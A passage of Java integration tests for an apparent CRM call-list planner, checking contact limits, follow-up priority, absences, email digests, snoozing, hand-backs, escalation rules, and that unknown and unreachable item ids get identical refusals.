            assertThat(single(seller + "-3").getString("channel")).as("today's list has room: the other two are tomorrow's")
                    .isEqualTo("CALL");
            assertThat(customers(today)).containsExactly(seller + "-3");
        }
        assertThat(today.getInt("overflow")).isZero();
    }

    /** A salesperson with room for two calls, and a STANDARD, a TOP10 and a TOP100 customer due for a courtesy touch. */
    private String fullList() {
        String seller = Csv.unique("full");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,region,daily_capacity",
                seller + ",Full Seller,full@example.com,Europe/Berlin,DE-BE,2")).status()).isEqualTo(200);
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,email,time_zone,owner,tier",
                seller + "-1,One,one@" + seller.toLowerCase() + ".example,Europe/Berlin," + seller + ",STANDARD",
                seller + "-2,Two,two@" + seller.toLowerCase() + ".example,Europe/Berlin," + seller + ",TOP10",
                seller + "-3,Three,three@" + seller.toLowerCase() + ".example,Europe/Berlin," + seller + ",TOP100"))
                .json().getInt("created")).isEqualTo(3);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        return seller;
    }

    private JsonObject single(String customer) {
        return api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class).stream()
                .filter(t -> t.getString("rule").equals("COURTESY")).reduce((x, y) -> {
                    throw new AssertionError("two courtesy touches for " + customer + ": " + x + ", " + y);
                }).orElseThrow(() -> new AssertionError("no courtesy touch for " + customer));
    }

    @Test
    void aCustomerIsCalledAtMostAsOftenAsTheContactPolicyAllows() {
        // a salesperson who works every day, with customers in no holiday region: whatever day the test runs, the day of
        // a call made now has a list (only company holidays could move it, and they are read from the service)
        String seller = Csv.unique("lim");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,working_days",
                seller + ",Lim Seller,lim@example.com,Europe/Berlin,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        String called = seller + "-1";
        String followedUp = seller + "-2";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                called + ",Called,Europe/Berlin," + seller + ",TOP10",
                followedUp + ",Followed Up,Europe/Berlin," + seller + ",TOP10")).json().getInt("created")).isEqualTo(2);
        // both courtesy calls planned first: once the follow-up below is planned, the planner proposes no courtesy call
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        // resolved five days ago: its follow-up call is overdue, still open, on every list from now on
        java.time.Instant now = java.time.Instant.now();
        String problem = Csv.unique("cap3");
        assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + problem + "\",\"customer\":\"" + followedUp
                + "\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(6)) + "\",\"resolved_at\":\""
                + now.minus(java.time.Duration.ofDays(5)) + "\",\"summary\":\"Broken\",\"resolution\":\"Fixed\"}").status())
                .isEqualTo(201);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        // a call logged outside the list counts: the customer waits until it is three days old
        LocalDate callDay = callNow(called);
        BusinessCalendar calendar = new BusinessCalendar(new JollydayHolidays(), companyHolidays());
        LocalDate day = calendar.firstWorkingDay(callDay, EVERY_DAY_ANYWHERE);
        assertThat(day).as("a working day within the three days of the call (not three company holidays in a row)")
                .isBeforeOrEqualTo(callDay.plusDays(2));
        LocalDate threeDaysOn = calendar.firstWorkingDay(callDay.plusDays(3), EVERY_DAY_ANYWHERE);
        assertThat(customers(listOn(api.asAdmin(), seller, day))).doesNotContain(called);
        assertThat(customers(listOn(api.asAdmin(), seller, threeDaysOn))).contains(called);

        // the list's own items count too: with the follow-up due, the courtesy call waits
        assertThat(rules(listOn(api.asAdmin(), seller, day), followedUp)).containsExactly("PROBLEM_FOLLOW_UP");

        withRules(rules -> jakarta.json.Json.createObjectBuilder(rules).add("contact_policy",
                jakarta.json.Json.createObjectBuilder(rules.getJsonObject("contact_policy")).add("max_calls_per_3_days", 2)).build(), () -> {
            assertThat(customers(listOn(api.asAdmin(), seller, day))).as("a second call in three days").contains(called);
            assertThat(rules(listOn(api.asAdmin(), seller, day), followedUp)).containsExactly("PROBLEM_FOLLOW_UP", "COURTESY");
        });

        // a problem follow-up is never held back by the limit: called now, the follow-up still shows, the courtesy call not
        assertThat(callNow(followedUp)).as("called on the list's day or in the two days before").isBetween(day.minusDays(2), day);
        assertThat(rules(listOn(api.asAdmin(), seller, day), followedUp)).containsExactly("PROBLEM_FOLLOW_UP");
    }

    /** Logs an unanswered call now; the local date it was made on, in Berlin. */
    private LocalDate callNow(String customer) {
        Api.Reply call = api.asAdmin().postJson("api/touches", "{\"customer\":\"" + customer + "\",\"kind\":\"CALL\",\"outcome\":\"NO_ANSWER\"}");
        assertThat(call.status()).as(call.toString()).isEqualTo(201);
        return java.time.Instant.parse(call.json().getString("occurred_at")).atZone(ZoneId.of("Europe/Berlin")).toLocalDate();
    }

    private Set<LocalDate> companyHolidays() {
        return api.asAdmin().get("api/holidays").array().getValuesAs(JsonObject.class).stream()
                .map(h -> LocalDate.parse(h.getString("date"))).collect(java.util.stream.Collectors.toSet());
    }

    /**
     * Runs {@code body} with the rules {@code change} makes of the current ones, and puts the current ones back whatever
     * happens (the rules are shared by every test on the server).
     */
    private void withRules(java.util.function.UnaryOperator<JsonObject> change, Runnable body) {
        JsonObject rules = api.asAdmin().get("api/rules").json();
        Api.Reply changed = api.asAdmin().put("api/rules", change.apply(rules).toString());
        try {
            assertThat(changed.status()).as(changed.toString()).isEqualTo(200);
            body.run();
        } finally {
            Api.Reply restored = api.asAdmin().put("api/rules", rules.toString());
            if (restored.status() != 200) {
                throw new IllegalStateException("the rules were not restored: " + restored);
            }
        }
        assertThat(api.asAdmin().get("api/rules").json()).as("the rules are back").isEqualTo(rules);
    }

    @Test
    void aRescheduledCallComesBackOnItsDateAndOneNotNeededIsClosed() {
        long id = item(list(team.as(team.a), team.a), team.customerOfA).getInt("id");
        LocalDate later = BERLIN.plusBusinessDays(workday, 3, "DE-BE");
        Api.Reply rescheduled = outcome(team.as(team.a), id, "{\"outcome\":\"RESCHEDULED\",\"reschedule_to\":\"" + later
                + "\",\"note\":\"after the trade fair\"}");
        assertThat(rescheduled.status()).as(rescheduled.toString()).isEqualTo(200);
        assertThat(rescheduled.json().getString("status")).isEqualTo("OPEN");
        assertThat(rescheduled.json().getString("not_before_on")).isEqualTo(later.toString());
        assertThat(customers(list(team.as(team.a), team.a))).doesNotContain(team.customerOfA);
        assertThat(customers(listOn(team.a, later))).contains(team.customerOfA);

        long other = item(list(team.as(team.b), team.b), team.customerOfB).getInt("id");
        Api.Reply notNeeded = outcome(team.as(team.b), other, "{\"outcome\":\"NOT_NEEDED\",\"note\":\"spoke at the fair\"}");
        assertThat(notNeeded.status()).as(notNeeded.toString()).isEqualTo(200);
        assertThat(notNeeded.json().getString("status")).isEqualTo("DONE");
        assertThat(customers(list(team.as(team.b), team.b))).doesNotContain(team.customerOfB);
        JsonObject closed = api.asAdmin().get("api/planned-touches?customer=" + team.customerOfB).array().getValuesAs(JsonObject.class)
                .stream().filter(t -> t.getInt("id") == other).findFirst().orElseThrow();
        assertThat(closed.getString("outcome")).isEqualTo("NOT_NEEDED");
        assertThat(closed.getString("note")).isEqualTo("spoke at the fair");
        assertThat(api.asAdmin().get("api/customers/" + team.customerOfB).json().isNull("last_two_way_touch_at"))
                .as("nobody was spoken to").isTrue();
    }

    @Test
    void anAbsentSalespersonsCallsGoToTheirBackupWhoRecordsTheOutcome() {
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        String absence = "[{\"starts_on\":\"" + today + "\",\"ends_on\":\"" + workday + "\",\"note\":\"holiday\"}]";
        Api.Reply away = api.asAdmin().put("api/salespeople/" + team.b + "/absences", absence);
        assertThat(away.status()).as(away.toString()).isEqualTo(200);
        JsonObject absentList = list(team.as(team.b), team.b);
        assertThat(absentList.getBoolean("absent")).isTrue();
        assertThat(absentList.getJsonArray("items")).isEmpty();
        JsonObject covering = item(list(team.as(team.a), team.a), team.customerOfB);
        assertThat(covering.getString("covering_for")).isEqualTo(team.b);

        long id = covering.getJsonNumber("id").longValue();
        assertThat(outcome(team.as(team.c), id, "{\"outcome\":\"REACHED\"}").status()).as("another team").isEqualTo(403);
        assertThat(api.asAdmin().put("api/salespeople/" + team.b + "/absences", "[]").status()).isEqualTo(200);
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"REACHED\"}").status()).as("B is back: not A's item").isEqualTo(403);

        assertThat(api.asAdmin().put("api/salespeople/" + team.b + "/absences", absence).status()).isEqualTo(200);
        Api.Reply reached = outcome(team.as(team.a), id, "{\"outcome\":\"REACHED\",\"note\":\"covered for B\"}");
        assertThat(reached.status()).as(reached.toString()).isEqualTo(200);
        assertThat(reached.json().getString("status")).isEqualTo("DONE");
    }

    @Test
    void theMorningDigestGoesOutOncePerDayThroughTheOutbox() throws Exception {
        // a zone where it is now about noon, so the 07:00 digest is due whatever the time of the test
        int offset = Math.max(-12, Math.min(14, 12 - java.time.ZonedDateTime.now(ZoneId.of("UTC")).getHour()));
        String zone = offset == 0 ? "Etc/GMT" : "Etc/GMT" + (offset > 0 ? "-" : "+") + Math.abs(offset);
        String seller = Csv.unique("dig");
        String email = seller.toLowerCase() + "@sales.example";
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,working_days",
                seller + ",Dora Digest," + email + "," + zone + ",MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        // the customer in the same zone: their call is due on their date, which Berlin's is not from 23:00 to 24:00 UTC
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,Digest Customer," + zone + "," + seller + ",TOP10")).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        assertThat(team.as(team.a).postJson("api/call-lists/digests/run", "").status()).isEqualTo(403);
        org.rapport.testing.Salespeople.onlyTheseHaveAnEmail(seller);

        Api.Reply run = api.asAdmin().postJson("api/call-lists/digests/run", "");
        assertThat(run.status()).as(run.toString()).isEqualTo(200);
        assertThat(run.json().getInt("enqueued")).as("ours alone").isEqualTo(1);
        api.asAdmin().postJson("api/call-lists/digests/run", "");
        List<JsonObject> digests = api.asAdmin().get("api/outbox?template=daily-call-list&limit=1000").array()
                .getValuesAs(JsonObject.class).stream().filter(m -> m.getString("salesperson", "").equals(seller)).toList();
        assertThat(digests).as("once per salesperson and day").hasSize(1);
        org.rapport.testing.Eventually.soon().until(() -> !org.rapport.testing.Mailbox.to(email).isEmpty());
        jakarta.mail.internet.MimeMessage message = org.rapport.testing.Mailbox.single(email);
        assertThat(message.getSubject()).startsWith("Your call list for").contains("1 call");
        String text = (String) ((jakarta.mail.Multipart) message.getContent()).getBodyPart(0).getContent();
        assertThat(text).contains("Digest Customer").contains("Top-10 customer");
        assertThat(message.getHeader("List-Unsubscribe")).as("internal mail is no outreach").isNull();
        String html = (String) ((jakarta.mail.Multipart) message.getContent()).getBodyPart(1).getContent();
        assertThat(text + html).as("nor an unsubscribe link in its body").doesNotContain("/u/").doesNotContainIgnoringCase("unsubscribe");

        // no web pages yet: the digest points at the list as the API serves it, and each of those addresses answers
        assertThat(text + html).doesNotContainIgnoringCase("one click").doesNotContainIgnoringCase("web page");
        List<String> paths = java.util.regex.Pattern.compile("https?://[^/\\s]+/(api/call-lists/" + seller + "/[^\\s<>\"]+)")
                .matcher(text).results().map(m -> m.group(1)).distinct().toList();
        assertThat(paths).as(text).hasSize(3).anyMatch(p -> p.endsWith(".csv")).anyMatch(p -> p.endsWith(".ics"));
        for (String path : paths) {
            assertThat(api.asAdmin().get(path).status()).as(path).isEqualTo(200);
        }
        JsonObject list = api.asAdmin().get(paths.stream().filter(p -> !p.contains(".")).findFirst().orElseThrow()).json();
        long id = list.getJsonArray("items").getJsonObject(0).getJsonNumber("id").longValue();
        assertThat(text).contains("item " + id).contains("api/call-lists/items/<item>/outcome");
        Api.Reply recorded = outcome(api.asAdmin(), id, "{\"outcome\":\"REACHED\"}");
        assertThat(recorded.status()).as("the outcome, recorded as the digest says: %s", recorded).isEqualTo(200);
    }

    @Test
    void aProblemFollowUpComesBeforeAnyCourtesyCallHoweverOld() {
        // customers imported from another CRM with old last contacts, and one fresh follow-up
        String seller = everyDaySeller("old");
        String top10 = seller + "-T", standard = seller + "-S", followedUp = seller + "-F";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                top10 + ",Old Top,Europe/Berlin," + seller + ",TOP10",
                standard + ",Old Standard,Europe/Berlin," + seller + ",STANDARD",
                followedUp + ",Fresh Problem,Europe/Berlin," + seller + ",STANDARD")).json().getInt("created")).isEqualTo(3);
        java.time.Instant now = java.time.Instant.now();
        visited(top10, now.minus(java.time.Duration.ofDays(200)));
        visited(standard, now.minus(java.time.Duration.ofDays(400)));
        String problem = Csv.unique("fresh");
        assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + problem + "\",\"customer\":\"" + followedUp
                + "\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(3)) + "\",\"resolved_at\":\""
                + now.minus(java.time.Duration.ofDays(2)) + "\",\"summary\":\"Broken\",\"resolution\":\"Fixed\"}").status())
                .isEqualTo(201);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        JsonObject list = listOn(api.asAdmin(), seller, everyDay(LocalDate.now(ZoneId.of("Europe/Berlin"))));
        List<JsonObject> items = list.getJsonArray("items").getValuesAs(JsonObject.class);
        assertThat(items).extracting(i -> i.getString("customer")).containsExactly(followedUp, standard, top10);
        assertThat(items).extracting(i -> i.getString("urgency")).containsExactly("PROBLEM", "COURTESY", "COURTESY");
        assertThat(items.get(0).getString("rule")).isEqualTo("PROBLEM_FOLLOW_UP");
        assertThat(items.get(2).getInt("priority")).as("the old courtesy calls score higher than the follow-up")
                .isGreaterThan(items.get(0).getInt("priority"));
        assertThat(items.get(1).getInt("priority")).isGreaterThan(items.get(0).getInt("priority"));
    }

    /**
     * Overdue work does not bury today: with four slots, a follow-up takes its slot first, and of the three left the
     * calls due today keep two however old and many the carried-over courtesy calls are. Each item says whether it is
     * carried over and how many days overdue it is; the list counts both groups, in JSON and CSV.
     */
    @Test
    void aCourtesyBacklogTakesAtMostHalfTheSlotsLeftAndEachItemSaysItsAge() throws Exception {
        String seller = Csv.unique("slots");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days,daily_capacity",
                seller + ",Slot Seller,Europe/Berlin,MON-SUN,4")).json().getJsonArray("rejected")).isEmpty();
        StringBuilder customers = new StringBuilder("external_id,company,time_zone,owner,tier");
        for (String c : List.of("T1", "T2", "T3")) {
            customers.append("\n").append(seller).append('-').append(c).append(",New ").append(c).append(",Europe/Berlin,")
                    .append(seller).append(",TOP10");
        }
        for (String c : List.of("O1", "O2", "O3", "O4", "F")) {
            customers.append("\n").append(seller).append('-').append(c).append(",Old ").append(c).append(",Europe/Berlin,")
                    .append(seller).append(",STANDARD");
        }
        assertThat(api.asAdmin().postCsv("api/import/customers", customers + "\n").json().getInt("created")).isEqualTo(8);
        java.time.Instant now = java.time.Instant.now();
        java.time.Instant longAgo = now.minus(java.time.Duration.ofDays(400));
        for (String c : List.of("O1", "O2", "O3", "O4", "F")) {
            visited(seller + "-" + c, longAgo);
        }
        assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + Csv.unique("slot") + "\",\"customer\":\"" + seller
                + "-F\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(2)) + "\",\"resolved_at\":\""
                + now.minus(java.time.Duration.ofHours(30)) + "\",\"summary\":\"Broken\",\"resolution\":\"Fixed\"}").status())
                .isEqualTo(201);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        LocalDate day = everyDay(LocalDate.now(ZoneId.of("Europe/Berlin")));
        JsonObject list = listOn(api.asAdmin(), seller, day);
        List<JsonObject> items = list.getJsonArray("items").getValuesAs(JsonObject.class);
        assertThat(items).extracting(i -> i.getString("customer").substring(seller.length() + 1) + "/" + i.getBoolean("backlog"))
                .as("the follow-up, one old courtesy call (the oldest scores highest) and two of today's")
                .containsExactly("F/false", "O1/true", "T1/false", "T2/false");
        assertThat(items.get(0).getString("rule")).isEqualTo("PROBLEM_FOLLOW_UP");
        LocalDate due = LocalDate.ofInstant(longAgo, ZoneId.of("Europe/Berlin")).plusDays(90);
        assertThat(items.get(1).getInt("days_overdue")).as("overdue since %s", due)
                .isEqualTo((int) java.time.temporal.ChronoUnit.DAYS.between(due, day));
        assertThat(items).extracting(i -> i.getInt("days_overdue")).filteredOn(d -> d == 0).hasSize(3);
        assertThat(list.getInt("due_today_count")).isEqualTo(3);
        assertThat(list.getInt("backlog_count")).isEqualTo(1);
        assertThat(list.getInt("backlog_waiting")).as("three old calls did not fit").isEqualTo(3);
        assertThat(list.getInt("overflow")).as("one of today's and three old ones").isEqualTo(4);

        Api.Reply csv = api.asAdmin().get("api/call-lists/" + seller + "/" + day + ".csv");
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
        assertThat(rows).extracting(r -> r.get("backlog") + "/" + r.get("days_overdue"))
                .containsExactly("false/0", "true/" + items.get(1).getInt("days_overdue"), "false/0", "false/0");

        Api.Reply followUp = handBack(api.asAdmin(), items.get(0).getInt("id"));
        assertThat(followUp.status()).as("only a courtesy call is handed back: " + followUp).isEqualTo(409);
    }

    @Test
    void theOwnerSnoozesACallToALaterDayWithoutATryAndWithinBounds() {
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        long id = item(list(team.as(team.a), team.a), team.customerOfA).getInt("id");
        long unknown = 987_654_321_013L;
        String tomorrow = "{\"until\":\"" + today.plusDays(1) + "\"}";
        for (String as : List.of(team.b, team.c)) {
            assertSameRefusal(snooze(team.as(as), id, tomorrow), id, snooze(team.as(as), unknown, tomorrow), unknown, as + ": snooze");
        }
        Api.Reply same = snooze(team.as(team.a), id, "{\"until\":\"" + today + "\"}");
        assertThat(same.status()).as(same.toString()).isEqualTo(400);
        assertThat(same.json().getString("detail")).isEqualTo("until: " + today + " is not after today (" + today
                + "); a snooze moves a call to a later day.");
        Api.Reply far = snooze(team.as(team.a), id, "{\"until\":\"" + today.plusDays(15) + "\"}");
        assertThat(far.status()).as(far.toString()).isEqualTo(400);
        assertThat(far.json().getString("detail")).contains("more than 14 days ahead");
        assertThat(snooze(team.as(team.a), id, "{}").status()).isEqualTo(400);

        LocalDate until = BERLIN.plusBusinessDays(today, 2, "DE-BE");
        Api.Reply snoozed = snooze(team.as(team.a), id, "{\"until\":\"" + until + "\",\"note\":\"after their trade fair\"}");
        assertThat(snoozed.status()).as(snoozed.toString()).isEqualTo(200);
        assertThat(snoozed.json().getString("status")).isEqualTo("OPEN");
        assertThat(snoozed.json().getString("outcome")).isEqualTo("SNOOZED");
        assertThat(snoozed.json().getInt("tries")).as("no try counted").isZero();
        assertThat(snoozed.json().getString("not_before_on")).isEqualTo(until.toString());
        assertThat(customers(list(team.as(team.a), team.a))).doesNotContain(team.customerOfA);
        JsonObject back = item(listOn(team.a, until), team.customerOfA);
        assertThat(back.getInt("tries")).isZero();
        assertThat(api.asAdmin().get("api/customers/" + team.customerOfA).json().getJsonArray("recent_touches"))
                .as("nothing happened with the customer").isEmpty();
    }

    @Test
    void theOwnerHandsBackAStaleCourtesyCallWhichComesBackByTheCadenceFromThen() throws Exception {
        String customer = team.tag + "-STALE";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                customer + ",Stale GmbH,Europe/Berlin," + team.a + ",STANDARD")).json().getInt("created")).isEqualTo(1);
        java.time.Instant spoken = java.time.Instant.now().minus(java.time.Duration.ofDays(200));
        visited(customer, spoken);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        JsonObject stale = item(list(team.as(team.a), team.a), customer);
        assertThat(stale.getBoolean("backlog")).isTrue();
        assertThat(stale.getInt("days_overdue")).isGreaterThan(100);
        long id = stale.getInt("id");
        long unknown = 987_654_321_014L;
        for (String as : List.of(team.b, team.c)) {
            assertSameRefusal(handBack(team.as(as), id), id, handBack(team.as(as), unknown), unknown, as + ": hand-back");
        }

        Api.Reply handed = handBack(team.as(team.a), id);
        assertThat(handed.status()).as(handed.toString()).isEqualTo(200);
        assertThat(handed.json().getString("status")).isEqualTo("CANCELLED");
        assertThat(handed.json().getString("outcome")).isEqualTo("HANDED_BACK");
        assertThat(customers(list(team.as(team.a), team.a))).doesNotContain(customer);
        assertThat(handBack(team.as(team.a), id).status()).as("once").isEqualTo(409);
        JsonObject detail = api.asAdmin().get("api/customers/" + customer).json();
        assertThat(detail.getJsonArray("recent_touches")).as("no call is pretended").hasSize(1);
        assertThat(java.time.Instant.parse(detail.getString("last_two_way_touch_at"))).as("the cadence's clock is not reset by a call")
                .isBefore(spoken.plusSeconds(1));
        assertThat(planned(customer)).singleElement().satisfies(t -> {
            assertThat(t.getString("status")).isEqualTo("CANCELLED");
            assertThat(t.getString("outcome")).isEqualTo("HANDED_BACK");
        });

        // planned again: nothing for the next 90 days
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        assertThat(planned(customer)).hasSize(1);
        // 91 days after the hand-back, the next courtesy call is due, counted from it: 91 of the customer's days (in UTC,
        // 91 days before a winter evening fall on the next Berlin day, summer time, so the count was 90 then)
        java.time.Instant handedBack = java.time.ZonedDateTime.now(ZoneId.of("Europe/Berlin")).minusDays(91).toInstant();
        try (java.sql.Connection db = db(); java.sql.PreparedStatement back = db.prepareStatement(
                "UPDATE planned_touch SET closed_at = ? WHERE id = ?")) {
            back.setString(1, java.time.LocalDateTime.ofInstant(handedBack, java.time.ZoneOffset.UTC).toString().replace('T', ' '));
            back.setLong(2, id);
            assertThat(back.executeUpdate()).isEqualTo(1);
        }
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        assertThat(planned(customer)).filteredOn(t -> t.getString("status").equals("OPEN")).singleElement()
                .satisfies(t -> assertThat(t.getString("reason")).endsWith("the last courtesy call handed back 91 days ago"));
    }

    private List<JsonObject> planned(String customer) {
        return api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class);
    }

    private static Api.Reply snooze(Api as, long id, String body) {
        return as.postJson("api/call-lists/items/" + id + "/snooze", body);
    }

    private static Api.Reply handBack(Api as, long id) {
        return as.postJson("api/call-lists/items/" + id + "/hand-back", "{\"note\":\"not this quarter\"}");
    }

    private static java.sql.Connection db() throws java.sql.SQLException {
        return java.sql.DriverManager.getConnection(System.getenv("RAPPORT_DB_URL"), System.getenv("RAPPORT_DB_USER"),
                System.getenv("RAPPORT_DB_PASSWORD"));
    }

    @Test
    void anEscalatedCallStaysOnTheHoldersListAndIsOnTheManagersListWhoseAlertLinksToIt() throws Exception {
        long id = escalate(team.a, team.customerOfA);
        JsonObject onOwners = item(list(team.as(team.a), team.a), team.customerOfA);
        assertThat(onOwners.getInt("id")).isEqualTo(id);
        assertThat(onOwners.getBoolean("escalated")).isTrue();
        assertThat(onOwners.getString("status")).isEqualTo("ESCALATED");
        assertThat(onOwners.getString("urgency")).isEqualTo("ESCALATED");
        assertThat(onOwners.getString("held_by")).isEqualTo(team.a);
        JsonObject managers = list(team.as(team.m), team.m);
        assertThat(managers.getJsonArray("items").getValuesAs(JsonObject.class).get(0).getInt("id")).as("first on the manager's list")
                .isEqualTo(id);
        assertThat(list(team.as(team.b), team.b).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("not on a colleague's list").noneMatch(i -> i.getInt("id") == id);

        // the alert links to the manager's own list, which the manager opens with their login
        String prefix = "api/call-lists/" + team.m + "/";
        org.rapport.testing.Eventually.soon().until(() -> alertText(prefix) != null);
        String text = alertText(prefix);
        String link = text.substring(text.indexOf(prefix)).lines().findFirst().orElseThrow().strip();
        Api.Reply followed = team.as(team.m).get(link);
        assertThat(followed.status()).as(followed.toString()).isEqualTo(200);
        assertThat(followed.json().getJsonArray("items").getValuesAs(JsonObject.class))
                .anyMatch(i -> i.getInt("id") == id && i.getBoolean("escalated"));
        assertThat(team.as(team.c).get(link).status()).as("another team's salesperson").isEqualTo(403);
        assertThat(team.as(team.a).get(link).status()).as("the holder").isEqualTo(403);
    }

    @Test
    void onlyTheHoldersManagerOrAnAdminDecidesAboutAnEscalatedCall() {
        String m2 = otherManagerLogin();
        long id = escalate(team.a, team.customerOfA);
        String reschedule = "{\"reschedule_to\":\"" + workday.plusDays(7) + "\"}";
        for (String as : List.of(team.a, team.b, team.c)) {
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/take", "{}").status()).as(as + " takes").isEqualTo(403);
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/close", "{\"note\":\"mine now\"}").status())
                    .as(as + " closes").isEqualTo(403);
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + team.c + "\"}")
                    .status()).as(as + " reassigns").isEqualTo(403);
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/reschedule", reschedule).status())
                    .as(as + " reschedules").isEqualTo(403);
        }
        Api.Reply otherTeam = team.as(m2).postJson("api/call-lists/items/" + id + "/close", "{\"note\":\"not my team\"}");
        assertThat(otherTeam.status()).as("another team's manager: " + otherTeam).isEqualTo(403);
        assertThat(team.as(m2).postJson("api/call-lists/items/" + id + "/take", "{}").status()).isEqualTo(403);
        assertThat(team.as(m2).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + team.c + "\"}").status())
                .isEqualTo(403);
        Api.Reply outsideTeam = team.as(team.m).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + team.c + "\"}");
        assertThat(outsideTeam.status()).as("to another team: " + outsideTeam).isEqualTo(403);
        Api.Reply unknown = team.as(team.m).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"nobody-" + team.tag + "\"}");
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(unknown.json().getString("detail")).isEqualTo("salesperson: there is no salesperson nobody-" + team.tag + ".");
        Api.Reply bypass = outcome(team.as(team.a), id, "{\"outcome\":\"REACHED\"}");
        assertThat(bypass.status()).as("an outcome is no way around the manager").isEqualTo(409);
        assertThat(bypass.json().getString("detail")).isEqualTo("Planned touch " + id
                + " is ESCALATED: it waits for a manager's decision (take, reassign, reschedule or close).");
        assertThat(status(id)).as("nothing changed").isEqualTo("ESCALATED");

        long open = item(list(team.as(team.b), team.b), team.customerOfB).getInt("id");
        Api.Reply notEscalated = team.as(team.m).postJson("api/call-lists/items/" + open + "/take", "{}");
        assertThat(notEscalated.status()).as("an OPEN call is not the manager's to take").isEqualTo(409);
        assertThat(notEscalated.json().getString("detail"))
                .isEqualTo("Planned touch " + open + " is OPEN: only an ESCALATED call waits for a manager's decision.");
        assertThat(team.as(team.m).postJson("api/call-lists/items/" + id + "/close", "{}").status()).as("a close needs a note").isEqualTo(400);
        assertThat(api.asAdmin().postJson("api/call-lists/items/" + id + "/close", "{\"note\":\"customer moved away\"}").status())
                .as("an admin").isEqualTo(200);
    }

    /**
     * Item ids are sequential numbers: trying them must not tell a caller which calls exist on other people's lists. An
     * item outside the caller's reach and an id that does not exist get the same 403, the same problem, on every
     * endpoint that takes an item id; only an admin, who reaches everything, learns that an id does not exist (404).
     */
    @Test
    void anItemOutsideTheCallersReachAndAnUnknownIdGetTheSameAnswer() {
        String m2 = otherManagerLogin();
        long open = item(list(team.as(team.b), team.b), team.customerOfB).getInt("id");
        long escalated = escalate(team.a, team.customerOfA);
        long unknown = 987_654_321_012L;
        String reschedule = "{\"reschedule_to\":\"" + workday.plusDays(7) + "\"}";
        Map<String, String> decisions = Map.of("take", "{}", "close", "{\"note\":\"mine now\"}",
                "reassign", "{\"salesperson\":\"" + team.c + "\"}", "reschedule", reschedule);

        for (String as : List.of(team.c, m2)) {
            assertSameRefusal(outcome(team.as(as), open, "{\"outcome\":\"REACHED\"}"), open,
                    outcome(team.as(as), unknown, "{\"outcome\":\"REACHED\"}"), unknown, as + ": outcome");
            decisions.forEach((decision, body) -> assertSameRefusal(
                    team.as(as).postJson("api/call-lists/items/" + escalated + "/" + decision, body), escalated,
                    team.as(as).postJson("api/call-lists/items/" + unknown + "/" + decision, body), unknown, as + ": " + decision));
        }
        assertSameRefusal(team.as(team.a).postJson("api/call-lists/items/" + escalated + "/take", "{}"), escalated,
                team.as(team.a).postJson("api/call-lists/items/" + unknown + "/take", "{}"), unknown, "the holder: take");

        Api.Reply toAnAdmin = outcome(api.asAdmin(), unknown, "{\"outcome\":\"REACHED\"}");
        assertThat(toAnAdmin.status()).as("an admin reaches everything: " + toAnAdmin).isEqualTo(404);
        assertThat(toAnAdmin.json().getString("detail")).isEqualTo("There is no call-list item " + unknown + ".");
        assertThat(api.asAdmin().postJson("api/call-lists/items/" + unknown + "/close", "{\"note\":\"gone\"}").status()).isEqualTo(404);
        assertThat(status(escalated)).as("nothing changed").isEqualTo("ESCALATED");
    }

    private static void assertSameRefusal(Api.Reply existing, long existingId, Api.Reply unknown, long unknownId, String what) {
        assertThat(existing.status()).as(what + ", someone else's item: " + existing).isEqualTo(403);
        assertThat(unknown.status()).as(what + ", an id that does not exist: " + unknown).isEqualTo(403);
        assertThat(unknown.contentType()).isEqualTo(existing.contentType()).startsWith("application/problem+json");
